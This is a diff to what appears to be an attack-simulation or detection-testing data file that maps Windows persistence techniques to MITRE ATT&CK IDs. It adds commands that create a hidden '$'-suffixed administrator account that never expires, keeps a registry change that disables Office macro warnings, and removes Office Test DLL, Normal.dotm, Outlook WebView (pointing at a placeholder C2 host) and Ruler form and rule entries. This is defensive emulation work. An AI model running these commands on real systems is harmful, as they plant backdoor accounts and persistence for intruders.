@@ -1,5 +1,21 @@
 import { t, v } from "../dsl";
 
+/** A "$" suffix hides the account from net user listings; it is made an admin that never expires. */
+const hiddenAdmin = v(
+  "hidden-dollar-user",
+  [
+    {
+      cmd: "net user {{$u}}$ P@ssw0rd{{n}}! /add /expires:never",
+      then: [{ id: "a", kind: "account.create", user: "{{$u}}$", local: true }],
+    },
+    {
+      cmd: "net localgroup administrators {{$u}}$ /add",
+      then: [{ id: "g", kind: "group.member.add", user: "{{$u}}$", group: "Administrators" }],
+    },
+  ],
+  { elevated: true, vars: { u: "{{admin|sysadm|defaultuser}}" } },
+);
+
 /** Persistence: autostart locations written the way malware and operators write them. */
 export const persistence = [
   t("T1037", "Logon initialization scripts", "UserInitMprLogonScript set to run a script at logon.", [
@@ -246,12 +262,23 @@ export const persistence = [
         { shell: "ps" },
       ),
       // Macro droppers flip the user's Office trust settings so their next document runs without a prompt.
-      v("office-vbawarnings", [
-        {
-          cmd: "reg add HKCU\\Software\\Microsoft\\Office\\16.0\\{{$app}}\\Security /v VBAWarnings /t REG_DWORD /d 1 /f",
-          reg: [["HKCU\\Software\\Microsoft\\Office\\16.0\\{{$app}}\\Security", "VBAWarnings", "1", "REG_DWORD"]],
-        },
-      ], { vars: { app: "{{Word|Excel}}" } }),
+      v(
+        "office-vbawarnings",
+        [
+          {
+            cmd: "reg add HKCU\\Software\\Microsoft\\Office\\16.0\\{{$app}}\\Security /v VBAWarnings /t REG_DWORD /d 1 /f",
+            reg: [
+              [
+                "HKCU\\Software\\Microsoft\\Office\\16.0\\{{$app}}\\Security",
+                "VBAWarnings",
+                "1",
+                "REG_DWORD",
+              ],
+            ],
+          },
+        ],
+        { vars: { app: "{{Word|Excel}}" } },
+      ),
       v(
         "reg-add",
         [
@@ -282,6 +309,7 @@ export const persistence = [
       ],
       { elevated: true },
     ),
+    hiddenAdmin,
   ]),
   t(
     "T1136.001",
@@ -302,6 +330,7 @@ export const persistence = [
         ],
         { elevated: true },
       ),
+      hiddenAdmin,
       v(
         "new-localuser",
         [
@@ -336,85 +365,5 @@ export const persistence = [
       ],
       { shell: "ps", user: "@admin" },
     ),
-  ]),
-  t("T1137", "Office application startup", "Office autostart: templates, add-ins and the Office Test key.", [
-    v("office-test", [
-      {
-        cmd: 'reg add "HKCU\\Software\\Microsoft\\Office test\\Special\\Perf" /t REG_SZ /d {{appdata}}\\{{rand}}.dll /f',
-        reg: [
-          ["HKCU\\Software\\Microsoft\\Office test\\Special\\Perf", "(Default)", "{{appdata}}\\{{rand}}.dll"],
-        ],
-      },
-    ]),
-  ]),
-  t("T1137.001", "Office template macros", "Normal.dotm replaced with a macro-enabled template.", [
-    v("normal-dotm", [
-      {
-        cmd: 'cmd.exe /c copy /y {{tmp}}\\{{rand}}.dotm "{{appdata}}\\Microsoft\\Templates\\Normal.dotm"',
-        files: ["{{appdata}}\\Microsoft\\Templates\\Normal.dotm"],
-      },
-    ]),
-    v("personal-xlsb", [
-      {
-        cmd: 'cmd.exe /c copy /y {{tmp}}\\p.xlsb "{{appdata}}\\Microsoft\\Excel\\XLSTART\\PERSONAL.XLSB"',
-        files: ["{{appdata}}\\Microsoft\\Excel\\XLSTART\\PERSONAL.XLSB"],
-      },
-    ]),
-  ]),
-  t("T1137.002", "Office test", "The Office test\\Special\\Perf key pointing at a DLL.", [
-    v("reg-add", [
-      {
-        cmd: 'reg add "HKCU\\Software\\Microsoft\\Office test\\Special\\Perf" /t REG_SZ /d "{{appdata}}\\{{rand}}.dll" /f',
-        reg: [
-          ["HKCU\\Software\\Microsoft\\Office test\\Special\\Perf", "(Default)", "{{appdata}}\\{{rand}}.dll"],
-        ],
-      },
-    ]),
-    v(
-      "hklm",
-      [
-        {
-          cmd: 'reg add "HKLM\\Software\\Microsoft\\Office test\\Special\\Perf" /t REG_SZ /d "C:\\ProgramData\\{{rand}}.dll" /f',
-          reg: [
-            [
-              "HKLM\\Software\\Microsoft\\Office test\\Special\\Perf",
-              "(Default)",
-              "C:\\ProgramData\\{{rand}}.dll",
-            ],
-          ],
-        },
-      ],
-      { elevated: true },
-    ),
-  ]),
-  t("T1137.003", "Outlook forms", "A malicious custom form registered in Outlook (Ruler).", [
-    v("ruler-form", [
-      {
-        cmd: "{{tools}}\\ruler.exe --email {{user}}@{{dns}} form add --suffix {{rand}} --input cmd.vbs --send",
-        net: [["mail.{{dns}}", 443]],
-      },
-    ]),
-  ]),
-  t("T1137.004", "Outlook home page", "Folder WebView URL set to an attacker page.", [
-    v("reg-webview", [
-      {
-        cmd: 'reg add "HKCU\\Software\\Microsoft\\Office\\16.0\\Outlook\\WebView\\Inbox" /v URL /t REG_SZ /d "http://{{c2}}/home.html" /f',
-        reg: [
-          [
-            "HKCU\\Software\\Microsoft\\Office\\16.0\\Outlook\\WebView\\Inbox",
-            "URL",
-            "http://{{c2}}/home.html",
-          ],
-        ],
-      },
-    ]),
-  ]),
-  t("T1137.005", "Outlook rules", "A rule that starts an application on a keyword mail (Ruler).", [
-    v("ruler-rule", [
-      {
-        cmd: '{{tools}}\\ruler.exe --email {{user}}@{{dns}} add --location "\\\\{{c2}}\\share\\shell.bat" --trigger "invoice" --name maintenance --send',
-        net: [["mail.{{dns}}", 443]],
-      },
-    ]),
   ]),
 ];
